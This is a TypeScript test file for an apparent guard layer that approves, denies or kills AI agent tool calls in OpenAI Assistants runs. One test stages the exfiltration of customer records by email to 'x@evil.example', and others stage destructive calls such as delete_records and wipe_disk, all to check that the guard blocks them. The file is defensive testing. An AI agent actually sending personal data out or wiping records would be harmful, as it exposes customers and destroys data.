import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { ActionDeniedError, callbackApprover, createGuard, type ApprovalCallback } from "@trailguard/core";
import { guardRequiredAction, submitGuardedToolOutputs } from "./index.js";
import { CUSTOMERS, POLICY, runIn, runRequiringAction, startFakeOpenAI, type FakeOpenAI } from "./fake-openai.test-support.js";

let server: FakeOpenAI;
beforeEach(async () => {
  server = await startFakeOpenAI();
});
afterEach(async () => {
  await server.close();
});

const guardWith = (approve?: ApprovalCallback) => createGuard({ policy: POLICY, ...(approve ? { approver: callbackApprover(approve) } : {}) });

function impls() {
  const runs: { name: string; args: unknown }[] = [];
  const make = (name: string, output: unknown) => vi.fn(async (args: unknown) => (runs.push({ name, args }), output));
  return { runs, tools: { search: make("search", { hits: 3 }), read_customers: make("read_customers", CUSTOMERS), send_email: make("send_email", "sent"), delete_records: make("delete_records", "deleted"), refund: make("refund", "refunded") } };
}

const SUBMIT = "POST /threads/thread_1/runs/run_1/submit_tool_outputs";
const RETRIEVE = "GET /threads/thread_1/runs/run_1";

describe("Assistants runs in requires_action", () => {
  it("decides every call before submitToolOutputs: allowed ones run once, denied ones get the refusal as output", async () => {
    const guard = await guardWith();
    const { runs, tools } = impls();
    server.script(RETRIEVE, runRequiringAction([{ id: "call_a", name: "search", args: { q: "shoes" } }, { id: "call_b", name: "delete_records", args: { all: true } }]));
    server.script(SUBMIT, runIn("completed"));
    const client = server.client();
    const run = await client.beta.threads.runs.retrieve("run_1", { thread_id: "thread_1" });
    const after = await submitGuardedToolOutputs(guard, client, run, { tools });
    expect(after.status).toBe("completed");
    expect(runs).toEqual([{ name: "search", args: { q: "shoes" } }]);
    expect(tools.delete_records).not.toHaveBeenCalled();
    expect(server.requests.at(-1)!.body).toEqual({
      tool_outputs: [
        { tool_call_id: "call_a", output: '{"hits":3}' },
        { tool_call_id: "call_b", output: expect.stringContaining("trailguard denied the action `delete_records` by `no-delete`") },
      ],
    });
  });

  it("hard deny and kill throw before anything runs or is submitted", async () => {
    const guard = await guardWith();
    const { runs, tools } = impls();
    const run = runRequiringAction([{ id: "a", name: "search", args: {} }, { id: "b", name: "delete_records", args: {} }]) as never;
    await expect(submitGuardedToolOutputs(guard, server.client(), run, { tools, onDeny: "throw" })).rejects.toBeInstanceOf(ActionDeniedError);
    const kill = await guardRequiredAction(guard, runRequiringAction([{ id: "c", name: "wipe_disk", args: {} }]) as never, { tools }).catch((e) => e);
    expect(kill.code).toBe("session_killed");
    expect(runs).toEqual([]);
    expect(server.requests).toEqual([]);
  });

  it("bad JSON arguments are denied; ask goes to the approver and modified arguments reach the tool", async () => {
    const guard = await guardWith((r) => ((r.action.args as { amount: number }).amount === 20 ? true : { approved: true, args: { amount: 20 } }));
    const { runs, tools } = impls();
    const { tool_outputs, decisions } = await guardRequiredAction(guard, runRequiringAction([{ id: "a", name: "search", args: "{nope" }, { id: "b", name: "refund", args: { amount: 50 } }]) as never, { tools });
    expect(decisions.map((d) => d.decision.code)).toEqual(["invalid_action", "approval_granted"]);
    expect(runs).toEqual([{ name: "refund", args: { amount: 20 } }]);
    expect(tool_outputs[1]).toEqual({ tool_call_id: "b", output: "refunded" });
  });

  it("the thread is the session: records read in one run cannot be sent in the next", async () => {
    const guard = await guardWith();
    const { runs, tools } = impls();
    await guardRequiredAction(guard, runRequiringAction([{ id: "a", name: "read_customers", args: {} }]) as never, { tools });
    const second = await guardRequiredAction(guard, runRequiringAction([{ id: "b", name: "send_email", args: { to: "x@evil.example", body: CUSTOMERS } }], { thread: "thread_1", run: "run_2" }) as never, { tools });
    expect(second.decisions[0]!.decision).toMatchObject({ effect: "deny", rule: "no-pii-egress" });
    expect(runs.map((r) => r.name)).toEqual(["read_customers"]);
  });

  it("a run in another state is left alone; an allowed call without an implementation gets an error output", async () => {
    const guard = await guardWith();
    const { tools } = impls();
    const done = runIn("completed") as never;
    expect(await submitGuardedToolOutputs(guard, server.client(), done, { tools })).toBe(done);
    const { tool_outputs } = await guardRequiredAction(guard, runRequiringAction([{ id: "a", name: "get_weather", args: {} }]) as never, { tools });
    expect(tool_outputs).toEqual([{ tool_call_id: "a", output: "error: no implementation for the tool `get_weather`" }]);
    expect(server.requests).toEqual([]);
  });

  it("fails closed when the guard throws", async () => {
    const real = await guardWith();
    const guard = { ...real, decide: () => Promise.reject(new Error("boom")) };
    const { runs, tools } = impls();
    const { decisions } = await guardRequiredAction(guard, runRequiringAction([{ id: "a", name: "search", args: {} }]) as never, { tools });
    expect(decisions[0]!.decision).toMatchObject({ effect: "deny", code: "adapter_error" });
    expect(runs).toEqual([]);
  });
});
